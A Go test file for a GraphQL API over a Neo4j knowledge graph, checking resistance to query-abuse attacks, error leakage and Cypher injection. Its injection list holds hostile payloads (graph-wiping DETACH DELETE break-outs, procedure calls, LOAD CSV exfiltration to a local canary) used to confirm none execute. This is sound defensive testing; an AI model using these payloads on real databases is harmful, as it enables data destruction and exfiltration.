package httpserver_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/hkgraph/hkgraph/httpserver"
	"github.com/hkgraph/hkgraph/internal/apitest"
	"github.com/hkgraph/hkgraph/kg"
	"github.com/hkgraph/hkgraph/neo4jstore"
)

// The checks graphql-cop (github.com/dolevf/graphql-cop) runs, with its payloads, against the
// production configuration; each must find the server not vulnerable.
func TestGraphQLCopChecks(t *testing.T) {
	prod := readEnv(t).Rebuild(func(o *httpserver.Options) { o.Introspection, o.GraphiQL = false, false })
	aliases := make([]string, 101)
	for i := range aliases {
		aliases[i] = fmt.Sprintf("alias%d:__typename", i)
	}
	t.Run("alias overloading (101 aliases)", func(t *testing.T) {
		r := post(t, prod.Handler, "query cop { "+strings.Join(aliases, " \n")+" }", nil)
		if r.code() != "TOO_MANY_ALIASES" || strings.Contains(string(r.Data), "alias100") {
			t.Errorf("%d %.300s", r.status, r.body)
		}
	})
	t.Run("array-based batching (10 queries)", func(t *testing.T) {
		batch := "[" + strings.TrimSuffix(strings.Repeat(`{"query": "query cop { __typename }"},`, 10), ",") + "]"
		r := request(t, prod.Handler, http.MethodPost, "/graphql", "application/json", batch)
		if r.status != http.StatusBadRequest || r.code() != "BATCHING_NOT_SUPPORTED" || strings.HasPrefix(r.body, "[") {
			t.Errorf("%d %.300s", r.status, r.body)
		}
	})
	t.Run("directive overloading", func(t *testing.T) {
		r := post(t, prod.Handler, "query cop { __typename @aa@aa@aa@aa@aa@aa@aa@aa@aa@aa }", nil)
		if len(r.Errors) != 1 || r.code() != "TOO_MANY_DIRECTIVES" {
			t.Errorf("want one TOO_MANY_DIRECTIVES error, got %d: %.300s", len(r.Errors), r.body)
		}
	})
	t.Run("circular introspection", func(t *testing.T) {
		q := "query cop { __schema { types { fields { type { fields { type { fields { type { fields { type { name } } } } } } } } } } }"
		for _, e := range []*apitest.Env{readEnv(t), prod} { // refused with introspection on, too
			if r := post(t, e.Handler, q, nil); r.code() == "" || r.Data != nil && string(r.Data) != "null" {
				t.Errorf("%d %.300s", r.status, r.body)
			}
		}
		if r := post(t, readEnv(t).Handler, q, nil); r.code() != "QUERY_TOO_DEEP" {
			t.Errorf("with introspection on: %.300s", r.body)
		}
	})
	t.Run("field suggestions", func(t *testing.T) {
		for _, q := range []string{"query cop { __schema { directive } }", `{ entitie(id: "hkic") { id } }`, `{ entity(id: "hkic") { nam } }`} {
			if r := post(t, prod.Handler, q, nil); strings.Contains(r.body, "Did you mean") {
				t.Errorf("%s: %.300s", q, r.body)
			}
		}
	})
	t.Run("introspection and GraphiQL", func(t *testing.T) {
		if r := post(t, prod.Handler, "query cop { __schema { types { name } } }", nil); r.code() != "INTROSPECTION_DISABLED" {
			t.Errorf("%.300s", r.body)
		}
		for _, p := range []string{"/", "/graphiql", "/playground", "/console"} {
			if rec := get(t, prod.Handler, p); rec.Code == http.StatusOK {
				t.Errorf("GET %s: 200", p)
			}
		}
	})
	t.Run("mutation over GET", func(t *testing.T) {
		r := request(t, prod.Handler, http.MethodGet, "/graphql?query="+url.QueryEscape("mutation cop { __typename }"), "", "")
		if r.status != http.StatusMethodNotAllowed || r.Data != nil && string(r.Data) != "null" {
			t.Errorf("%d %.300s", r.status, r.body)
		}
	})
	t.Run("POST-based CSRF (url-encoded)", func(t *testing.T) {
		r := request(t, prod.Handler, http.MethodPost, "/graphql", "application/x-www-form-urlencoded", "query=query+cop+%7B__typename%7D")
		if r.status != http.StatusUnsupportedMediaType || r.Data != nil && string(r.Data) != "null" {
			t.Errorf("%d %.300s", r.status, r.body)
		}
	})
	t.Run("trace mode", func(t *testing.T) {
		r := post(t, prod.Handler, "query cop { __typename }", nil, "apollo-federation-include-trace", "ftv1")
		if _, ok := r.Extensions["tracing"]; ok || r.Extensions["ftv1"] != nil {
			t.Errorf("tracing extension exposed: %v", r.Extensions)
		}
	})
	t.Run("unhandled errors leak no stack trace", func(t *testing.T) {
		for _, q := range []string{"qwerty cop { abc }", "{", `{ entity(id: 1) { id } }`, strings.Repeat("{", 500), "\x00\xff"} {
			r := post(t, prod.Handler, q, nil)
			assertNoLeak(t, q, r.body)
		}
	})
}

// assertNoLeak fails when a response shows internals: stack traces, file paths, Go panics,
// driver errors.
func assertNoLeak(t *testing.T, what, body string) {
	t.Helper()
	for _, s := range []string{"goroutine ", ".go:", "panic", "exception", "stacktrace", "Neo4jError", "neo4j:", "runtime error", "hunter2", "secret"} {
		if strings.Contains(strings.ToLower(body), strings.ToLower(s)) {
			t.Errorf("%s: response shows %q: %.400s", what, s, body)
		}
	}
}

// faultyStore fails the way bugs do: a panic in one resolver, a raw driver error in another.
type faultyStore struct{ *neo4jstore.Store }

func (faultyStore) Stats(context.Context) (*kg.Stats, error) {
	panic("runtime error: index out of range [3] with length 3 (secret)")
}

func (faultyStore) Documents(context.Context) ([]*kg.Document, error) {
	return nil, errors.New("neo4j: Neo4jError: password=hunter2 at /srv/hkgraph/neo4jstore/read.go:42")
}

// Panics are recovered and errors masked: the client sees "internal error" with the request id,
// the server keeps serving, and the log has the cause.
func TestPanicsRecoveredAndErrorsMasked(t *testing.T) {
	base := readEnv(t)
	e := base.Rebuild(func(o *httpserver.Options) { o.Store = faultyStore{base.Store} })
	for _, q := range []string{`{ stats { entityCount } }`, `{ documents { id } }`} {
		r := post(t, e.Handler, q, nil)
		if r.status != http.StatusOK || r.code() != "INTERNAL" || r.Errors[0].Message != "internal error" || r.Errors[0].Extensions["requestId"] == nil {
			t.Errorf("%s: %d %.300s", q, r.status, r.body)
		}
		assertNoLeak(t, q, r.body)
	}
	if r := post(t, e.Handler, `{ entity(id: "hkic") { name } }`, nil); r.code() != "" {
		t.Errorf("the server stopped serving after a panic: %.300s", r.body)
	}
}

// injections are Cypher-injection payloads: quote and brace break-outs, UNION, label and
// backtick injection, LOAD CSV exfiltration to a listener this test runs, procedure calls,
// Lucene syntax, parameter and comment tricks.
func injections(canary string) []string {
	return []string{
		`' OR 1=1 //`,
		`" OR 1=1 //`,
		`hkic' RETURN 1 UNION MATCH (n) DETACH DELETE n RETURN 1 //`,
		`hkic"}) MATCH (n) DETACH DELETE n //`,
		`x') DETACH DELETE n WITH 1 AS x MATCH (m) DETACH DELETE m //`,
		`x' UNION ALL MATCH (n:Entity) RETURN n.id AS id //`,
		"x`) DETACH DELETE n //",
		"Entity`:`Person",
		"`:Organization) SET n:Pwned //",
		`x'}) SET n.name = 'pwned' //`,
		`' LOAD CSV FROM '` + canary + `?d=' + n.id AS l RETURN l //`,
		`x") WITH 1 AS x LOAD CSV FROM "` + canary + `" AS l RETURN l //`,
		`'; CALL db.labels() YIELD label RETURN label //`,
		`' CALL dbms.procedures() YIELD name RETURN name //`,
		`x' CALL dbms.killQueries([]) //`,
		`x' CALL db.index.fulltext.drop('entity_names') //`,
		`*:* OR name:*`,
		`$id`, `{id}`, `\' OR 1=1`, `/* */ MATCH (n) DETACH DELETE n`,
		"x\u0000y", "x\\u0027 OR 1=1", "數碼港' OR '1'='1",
	}
}

// Every string argument and header carries each payload: nothing executes, the graph is
// unchanged, and the LOAD CSV canary is never called.
func TestCypherInjection(t *testing.T) {
	e := apitest.New(t)
	defer e.Reseed(t)
	var hits atomic.Int32
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	canarySrv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) })}
	go func() { _ = canarySrv.Serve(ln) }()
	defer canarySrv.Close()
	canary := "http://" + ln.Addr().String() + "/exfil"

	fingerprint := func() string {
		var out json.RawMessage
		e.Data(t, `{ stats { entityCount relationshipCount documentCount byKind { kind count } byRelationshipType { type count } }
			documents { id } auditLog(first: 5) { edges { node { id } } } }`, nil, apitest.AdminToken, &out)
		return string(out)
	}
	before := fingerprint()
	reads := []string{
		`query($s: ID!) { entity(id: $s) { id } }`,
		`query($s: ID!) { node(id: $s) { id } }`,
		`query($s: ID!) { relationship(id: $s) { id } }`,
		`query($s: ID!) { document(id: $s) { id } }`,
		`query($s: String!) { search(query: $s) { entity { id } } }`,
		`query($s: String!) { entities(where: {nameContains: $s}) { totalCount } }`,
		`query($s: String!) { entities(where: {nameStartsWith: $s}) { totalCount } }`,
		`query($s: ID!) { entities(where: {hasRelationship: {to: $s}}) { totalCount } }`,
		`query($s: String!) { entities(after: $s) { totalCount } }`,
		`query($s: String!) { entities(last: 2, before: $s) { totalCount } }`,
		`query($s: String!) { entity(id: "cyberport") { relationships(after: $s) { totalCount } mentions(after: $s) { totalCount } } }`,
		`query($s: ID!) { path(from: $s, to: "hkic") { length } }`,
		`query($s: ID!) { path(from: "cyberport", to: $s) { length } }`,
		`query($s: ID!) { paths(from: $s, to: $s) { length } }`,
		`query($s: ID!) { neighborhood(id: $s) { entities { id } } }`,
		`query($s: ID!) { auditLog(targetId: $s) { edges { node { id } } } }`,
		`query($s: String!) { auditLog(actor: $s, after: $s) { edges { node { id } } } }`,
	}
	writes := []string{
		`mutation($s: ID!) { deleteEntity(id: $s) }`,
		`mutation($s: String!) { deleteEntity(id: "no-such-entity", reason: $s) }`,
		`mutation($s: ID!) { removeRelationship(id: $s) }`,
		`mutation($s: ID!) { mergeEntities(keep: "hkic", remove: $s) { id } }`,
		`mutation($s: ID!) { mergeEntities(keep: $s, remove: "hkic") { id } }`,
		`mutation($s: ID!) { addRelationship(input: {type: INVESTED_IN, from: $s, to: "hkic", source: {url: "https://example.org"}}) { id } }`,
		`mutation($s: ID!) { upsertEntity(input: {id: $s, kind: ORGANIZATION, name: "X", source: {url: "https://example.org"}}) { id } }`,
		`mutation($s: String!) { addRelationship(input: {type: INVESTED_IN, from: "hkic", to: "cyberport", source: {url: $s}}) { id } }`,
		`mutation($s: ID!) { addRelationship(input: {type: INVESTED_IN, from: "hkic", to: "cyberport", source: {documentId: $s, start: 0, end: 3}}) { id } }`,
	}
	payloads := injections(canary)
	for _, p := range payloads {
		vars := map[string]any{"s": p}
		for _, q := range reads {
			r := post(t, e.Handler, q, vars, "Authorization", "Bearer "+apitest.AdminToken)
			assertNoLeak(t, q, r.body)
			if c := r.code(); c != "" && c != "BAD_USER_INPUT" && c != "NOT_FOUND" {
				t.Errorf("%s with %q: %s", q, p, r.body)
			}
		}
		for _, q := range writes {
			r := post(t, e.Handler, q, vars, "Authorization", "Bearer "+apitest.EditorToken)
			assertNoLeak(t, q, r.body)
			if c := r.code(); c != "" && c != "BAD_USER_INPUT" && c != "NOT_FOUND" {
				t.Errorf("%s with %q: %s", q, p, r.body)
			}
		}
		// Headers: credentials, proxies, origins, request ids, the operation name.
		for _, h := range [][]string{
			{"Authorization", "Bearer " + p}, {"X-Forwarded-For", p}, {"Origin", p}, {"X-Request-Id", p}, {"Accept", p},
		} {
			if strings.ContainsAny(p, "\x00") {
				continue // not a valid header value
			}
			r := post(t, e.Handler, `{ entity(id: "hkic") { id } }`, nil, h...)
			assertNoLeak(t, h[0], r.body)
		}
		b, _ := json.Marshal(map[string]any{"query": `query A { entity(id: "hkic") { id } }`, "operationName": p})
		assertNoLeak(t, "operationName", request(t, e.Handler, http.MethodPost, "/graphql", "application/json", string(b)).body)
	}
	if after := fingerprint(); after != before {
		t.Errorf("the graph changed:\nbefore %s\nafter  %s", before, after)
	}
	// Free text is stored verbatim, never interpreted: each payload as a name round-trips.
	for i, p := range payloads {
		id := fmt.Sprintf("injection-%d", i)
		in := map[string]any{"in": map[string]any{"id": id, "kind": "ORGANIZATION", "name": p, "description": p, "aliases": []string{p},
			"source": map[string]any{"url": "https://example.org/x", "quote": p}}}
		var out struct {
			UpsertEntity struct{ Name, Description string } `json:"upsertEntity"`
		}
		r := post(t, e.Handler, `mutation($in: EntityInput!) { upsertEntity(input: $in) { name description } }`, in,
			"Authorization", "Bearer "+apitest.EditorToken)
		if r.code() == "BAD_USER_INPUT" {
			continue // a NUL byte, say, is refused as input
		}
		if err := json.Unmarshal(r.Data, &out); err != nil || out.UpsertEntity.Name != p || out.UpsertEntity.Description != p {
			t.Errorf("payload %q stored as %+v: %.300s", p, out.UpsertEntity, r.body)
		}
	}
	var stats struct {
		Stats struct{ EntityCount, RelationshipCount int } `json:"stats"`
	}
	e.Data(t, `{ stats { entityCount relationshipCount } }`, nil, "", &stats)
	var was struct {
		Stats struct{ EntityCount, RelationshipCount int } `json:"stats"`
	}
	_ = json.Unmarshal([]byte(before), &was)
	if stats.Stats.RelationshipCount != was.Stats.RelationshipCount || stats.Stats.EntityCount > was.Stats.EntityCount+len(payloads) {
		t.Errorf("after storing payloads as names: %+v, before %+v", stats.Stats, was.Stats)
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the LOAD CSV canary was called %d times", n)
	}
}
